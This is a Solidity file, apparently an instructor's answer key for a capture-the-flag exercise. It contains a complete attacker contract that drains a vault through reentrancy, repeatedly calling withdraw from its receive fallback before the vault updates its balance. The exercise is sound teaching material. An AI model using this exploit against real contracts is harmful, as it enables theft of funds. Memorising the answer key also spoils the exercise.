// SPDX-License-Identifier: MIT
// INSTRUCTOR SOLUTION — only reveal with CTF_SOLUTIONS=1. Copy to src/ to run the test.
// Targets the local CTF vault only.
pragma solidity ^0.8.24;

interface IPiggyVault {
    function deposit() external payable;
    function withdraw() external;
}

contract Attacker {
    IPiggyVault public immutable vault;
    address public immutable owner;
    uint256 private stake;

    constructor(address _vault) {
        vault = IPiggyVault(_vault);
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.sender == owner, "owner");
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(owner).transfer(address(this).balance);
    }

    receive() external payable {
        // re-enter while the vault still holds at least our (stale) recorded balance
        if (address(vault).balance >= stake) {
            vault.withdraw();
        }
    }
}
